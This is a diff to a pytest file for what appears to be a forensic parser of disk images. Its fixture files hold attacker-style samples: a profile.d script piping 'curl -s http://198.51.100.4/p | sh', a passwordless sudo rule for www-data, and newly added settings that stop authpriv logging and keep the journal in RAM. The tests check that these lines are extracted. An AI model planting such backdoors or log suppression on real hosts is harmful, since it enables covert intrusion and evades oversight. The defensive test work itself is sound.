@@ -48,6 +48,10 @@ def tables(tmp_path_factory):
         "etc/sudoers": SUDOERS,
         "etc/sudoers.d/90-svc": "# service account\nwww-data ALL=(ALL) NOPASSWD: ALL\n",
         "etc/profile.d/fix.sh": "export LANG=C.UTF-8\ncurl -s http://198.51.100.4/p | sh\n",
+        "etc/rsyslog.conf": "# rules\nauth,authpriv.*\t/var/log/auth.log\n",
+        "etc/rsyslog.d/00-q.conf": "authpriv.* stop\n",
+        "etc/rsyslog.d/notes.txt": "not read: rsyslog includes *.conf only\n",
+        "etc/systemd/journald.conf.d/zz.conf": "[Journal]\n# keep it in RAM\nStorage=volatile\n",
         "var/lib/dpkg/info/coreutils.list": "/.\n/bin\n/bin/ls\n/usr\n/usr/bin\n",
         "var/lib/dpkg/info/coreutils.md5sums": f"{hashlib.md5(LS).hexdigest()}  bin/ls\n",
         "var/lib/dpkg/info/tree.list": "/usr/bin/tree\n",
@@ -96,6 +100,15 @@ def test_sudoers_rules_and_start_up_script_content(tables):
     assert "%sudo ALL=(ALL:ALL) ALL" in set(sudo["command"]) and not sudo["command"].str.contains("includedir").any()
     rc = _kind(tables, "shell_rc").set_index("path")
     assert "curl -s http://198.51.100.4/p | sh" in rc.loc["/etc/profile.d/fix.sh", "command"]
+
+
+def test_logging_daemons_settings_one_row_per_line(tables):
+    rows = _kind(tables, "log_config")[["path", "command"]].values.tolist()
+    assert rows == [
+        ["/etc/rsyslog.conf", "auth,authpriv.*\t/var/log/auth.log"],
+        ["/etc/rsyslog.d/00-q.conf", "authpriv.* stop"],
+        ["/etc/systemd/journald.conf.d/zz.conf", "Storage=volatile"],
+    ]
 
 
 def test_package_files_on_a_merged_usr_disk_and_md5_beside_sha256(tables):
